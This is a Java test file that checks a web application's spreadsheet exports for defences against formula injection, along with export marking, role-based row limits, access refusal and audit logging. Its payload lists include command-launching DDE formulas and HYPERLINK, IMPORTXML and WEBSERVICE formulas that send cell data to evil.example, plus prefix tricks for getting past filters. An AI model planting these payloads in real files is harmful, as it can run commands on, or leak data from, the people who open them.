package org.fengqiao.access;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.fengqiao.channel.Bridge;
import org.fengqiao.database.Sight;
import org.fengqiao.group.AddGroup;
import org.fengqiao.group.GroupFacts;
import org.fengqiao.matter.AcceptMatter;
import org.fengqiao.matter.AnswerMatter;
import org.fengqiao.matter.NewMatter;
import org.fengqiao.matter.OpenMatter;
import org.fengqiao.matter.Way;
import org.fengqiao.notice.PostWarning;
import org.fengqiao.org.AddUnit;
import org.fengqiao.org.DrawGrid;
import org.fengqiao.org.Grid;
import org.fengqiao.org.Role;
import org.fengqiao.org.Unit;
import org.fengqiao.people.KeepResident;
import org.fengqiao.people.NewResident;
import org.fengqiao.register.Imports;
import org.fengqiao.register.Register;
import org.fengqiao.shared.Page;
import org.fengqiao.shared.PageKey;
import org.fengqiao.shared.Place;
import org.fengqiao.town.EveryRow;
import org.fengqiao.town.InTheHouse;
import org.fengqiao.town.Robots;
import org.fengqiao.town.Town;
import org.fengqiao.town.Visitor;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/** U3 and U5: what is taken along cannot run, says who took it, has an end, and leaves a line in the audit trail. */
@InTheHouse
class U3_FormulaCellsTest {

    private static final List<String> BEGINNINGS = List.of(
            "=",
            "+",
            "-",
            "@",
            "＝",
            "＋",
            "－",
            "＠",
            "﹦",
            "﹢",
            "﹣",
            "﹫",
            "−",
            "\t=",
            "\r=",
            "\n=",
            " =",
            "\u00A0=",
            "\u3000=",
            "\uFEFF=",
            "\u200B=",
            "\u0000=",
            "\u202E=",
            "\"=",
            "\t",
            "\r",
            "\n",
            "\u200B\u3000＝",
            " \t-",
            "\u2060@");

    private static final List<String> ENDINGS = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example/?\"&A1,\"看\")",
            "SUM(1+9)*cmd|' /C calc'!A0",
            "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
            "WEBSERVICE(\"http://evil.example\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "1",
            "",
            "A1",
            "0",
            "IMAGE(\"http://evil.example/x.png\")",
            "FILTERXML(A1,\"//x\")",
            "@SUM(1)",
            "ＳＵＭ（１）",
            "R[1]C[1]",
            "'!A1");

    @LocalServerPort
    int port;

    @Autowired
    Town town;

    @Autowired
    TakeAlong takeAlong;

    @Autowired
    OpenMatter openMatter;

    @Autowired
    KeepResident keepResident;

    @Autowired
    AddGroup addGroup;

    @Autowired
    AcceptMatter acceptMatter;

    @Autowired
    AnswerMatter answerMatter;

    @Autowired
    PostWarning postWarning;

    @Autowired
    DrawGrid drawGrid;

    @Autowired
    AddUnit addUnit;

    @Autowired
    GiveAccount giveAccount;

    @Autowired
    Imports imports;

    @Autowired
    Robots robots;

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping endpoints;

    @Autowired
    EveryRow rows;

    private static List<String> strings() {
        List<String> all = new ArrayList<>();
        for (String beginning : BEGINNINGS) {
            for (String ending : ENDINGS) {
                all.add(beginning + ending);
            }
        }
        return all;
    }

    private static List<Row> read(byte[] file) {
        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(file))) {
            return book.getFirstSheet().read();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private byte[] taken(SignedIn who, TakeAlong.Lines<String> lines) {
        MockHttpServletResponse response = new MockHttpServletResponse();
        TakeAlong.Table<String> table = new TakeAlong.Table<>(
                "strings", "groups.title", List.of(new TakeAlong.Column<>("groups.table.name", 20, row -> row)), lines);
        town.as(who, () -> {
            try {
                takeAlong.send(response, who, table, Locale.SIMPLIFIED_CHINESE);
                return true;
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        return response.getContentAsByteArray();
    }

    @Test
    void nothingThatBeginsLikeAFormulaIsOneWhenItIsReadAgain() {
        List<String> strings = strings();
        assertThat(strings).hasSizeGreaterThanOrEqualTo(500);
        AtomicInteger read = new AtomicInteger();

        List<Row> rows = read(taken(
                town.zheng,
                (after, size) -> Page.of(
                        strings.subList(read.get(), Math.min(strings.size(), read.addAndGet(size) + 1)),
                        size,
                        row -> PageKey.of(read.get()))));

        assertThat(rows).hasSizeGreaterThan(strings.size());
        for (Row row : rows.subList(1, strings.size() + 1)) {
            Cell cell = row.getCell(0);
            assertThat(cell.getType()).isEqualTo(CellType.STRING);
            assertThat(cell.getFormula()).isNull();
            assertThat(cell.getText()).startsWith("'");
        }
    }

    @Test
    void whatIsHarmlessStaysAsItIs() {
        for (String text : List.of("", "楼道灯不亮", "3号楼-2单元", "a=b", "王*", "（2026）QSZ-000001", "（电话）", "\"说\"", "100%")) {
            assertThat(TakeAlong.harmless(text)).isEqualTo(text);
        }
    }

    @Test
    void aListThatIsAskedForWronglyIsRefusedOnAPageAndNotInTheMiddleOfAFile() {
        takers().forEach((list, who) -> assertThat(Visitor.signedIn(port, who)
                        .see(list + "?q=" + "长".repeat(300) + "&words=" + "长".repeat(300) + "&after=%00")
                        .statusCode())
                .as(list)
                .isLessThan(500));
        assertThat(Visitor.signedIn(port, town.chen)
                        .see("/residents.xlsx?q=" + "长".repeat(300))
                        .body())
                .contains("最多 80 ");
    }

    /** Who takes each list, by the end of its address. */
    private Map<String, SignedIn> takers() {
        return Map.ofEntries(
                Map.entry("/matters.xlsx", town.chen),
                Map.entry("/residents.xlsx", town.chen),
                Map.entry("/groups.xlsx", town.chen),
                Map.entry("/grids.xlsx", town.chen),
                Map.entry("/callbacks.xlsx", town.chen),
                Map.entry("/posts.xlsx", town.chen),
                Map.entry("/inbox/quarantine.xlsx", town.chen),
                Map.entry("/bridges.xlsx", town.zhou),
                Map.entry("/imports.xlsx", town.zhou),
                Map.entry("/officers.xlsx", town.su),
                Map.entry("/units.xlsx", town.he),
                Map.entry("/processing.xlsx", town.fang),
                Map.entry("/followers.xlsx", town.he),
                Map.entry("/followers/parked.xlsx", town.he));
    }

    /** No list: an empty form, and one's own lines given back, which OldRegisterTest looks at. */
    private static final Set<String> NO_LISTS = Set.of("/imports/blank.xlsx", "/imports/{id}/refused.xlsx");

    /** In these stand only words of the program. */
    private static final Set<String> OWN_WORDS =
            Set.of("/followers.xlsx", "/followers/parked.xlsx", "/processing.xlsx");

    private void formulasEverywhere() {
        int bridge = robots.bridge(town.qingshi, Bridge.Opens.DESK);
        rows.write("update channel.bridge set name = '=甲桥' where id = ?", bridge);
        rows.write(
                "insert into channel.quarantine (unit_id, bridge_id, hash, raw, reason) values (?, ?, ?, ?, 'NOT_JSON')",
                town.qingshi,
                bridge,
                new byte[32],
                new byte[] {1});
        Sight.HOUSE.see(() -> addUnit.add(town.qingshi, Unit.Kind.PARTNER, "=甲公司", "JIA3"));
        Sight.HOUSE.see(
                () -> giveAccount.give(town.qingshi, "@甲员", Role.VOLUNTEER, "", "jia-u3", Town.PASSWORD, false));
        town.as(town.chen, () -> {
            long matter = openMatter
                    .open(
                            NewMatter.of(town.qingshi, "LEAD", "=1+1+甲", Way.DESK)
                                    .at(Place.of("＋甲路")),
                            Town.actor(town.chen))
                    .id();
            acceptMatter.accept(matter, null, Town.actor(town.chen));
            answerMatter.answer(matter, null, Town.actor(town.chen), "@甲已办");
            keepResident.keep(town.qingshi, NewResident.of("@甲", null).living("-甲路1号"));
            int group = addGroup.add(town.qingshi, GroupFacts.of("=甲群", "＝甲片"));
            return postWarning.post(town.chen, "=甲提醒", List.of(group), 0);
        });
        town.as(town.zhou, () -> {
            drawGrid.draw(new DrawGrid.Drawing(town.qingshi, Grid.Kind.SOCIAL, "=甲格", 0, null, null, false, null));
            return imports.upload(
                    town.zhou,
                    town.qingshi,
                    Register.GROUPS,
                    "=甲.csv",
                    "群名,范围\n乙群,乙片".getBytes(StandardCharsets.UTF_8));
        });
    }

    @Test
    void everyListThatCanBeTakenIsDisarmedMarkedAndAudited() {
        Set<String> offered = endpoints.getHandlerMethods().keySet().stream()
                .flatMap(mapping -> mapping.getPatternValues().stream())
                .filter(path -> path.endsWith(".xlsx") && !NO_LISTS.contains(path))
                .collect(Collectors.toSet());
        assertThat(takers().keySet()).as("every list there is").isEqualTo(offered);
        formulasEverywhere();
        takers().forEach((path, taker) -> {
            String list = path.substring(path.lastIndexOf('/') + 1).replace(".xlsx", "");
            long before = rows.count("audit.line where what = 'list.taken' and about = ?", "list/" + list);

            var file = Visitor.signedIn(port, taker).fetch(path);

            assertThat(file.statusCode()).as(list).isEqualTo(200);
            assertThat(file.headers().firstValue("Content-Disposition").orElse(""))
                    .startsWith("attachment; filename=\"" + list);
            assertThat(file.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
            List<Row> lines = read(file.body());
            assertThat(lines.getLast().getCellText(0)).contains(taker.name(), taker.login(), "仅限工作使用");
            assertThat(lines.stream()
                            .flatMap(Row::stream)
                            .filter(java.util.Objects::nonNull)
                            .map(Cell::getFormula))
                    .as(list)
                    .containsOnlyNulls();
            if (!OWN_WORDS.contains(path)) {
                assertThat(lines.stream()
                                .flatMap(Row::stream)
                                .filter(cell -> cell != null && cell.getType() == CellType.STRING)
                                .map(Cell::getText)
                                .filter(text -> text.contains("甲") && text.startsWith("'")))
                        .as(list + " has what was disarmed")
                        .isNotEmpty();
            }
            assertThat(rows.count("audit.line where what = 'list.taken' and about = ?", "list/" + list))
                    .isEqualTo(before + 1);
        });
    }

    @Test
    void noRoleTakesMoreThanItMayAtOnce() {
        for (SignedIn who : List.of(town.li, town.chen)) {
            int most = TakeAlong.mostLines(who.role());
            AtomicInteger asked = new AtomicInteger();

            List<Row> lines = read(taken(who, (after, size) -> {
                asked.addAndGet(size);
                return Page.of(java.util.Collections.nCopies(size + 1, "行"), size, row -> PageKey.of(asked.get()));
            }));

            assertThat(asked).hasValue(most);
            assertThat(lines).hasSize(1 + most + 2);
            assertThat(lines.get(most + 1).getCellText(0))
                    .contains(Integer.toString(most).substring(0, 1), "还有更多");
        }
        assertThat(TakeAlong.mostLines(town.li.role())).isLessThan(TakeAlong.mostLines(town.zheng.role()));
    }

    @Test
    void whoMayNotTakeAListAlongGetsNone() {
        Visitor liu = Visitor.signedIn(port, town.liu);
        for (String path : takers().keySet()) {
            assertThat(liu.see(path).statusCode()).as(path).isEqualTo(403);
        }
    }
}
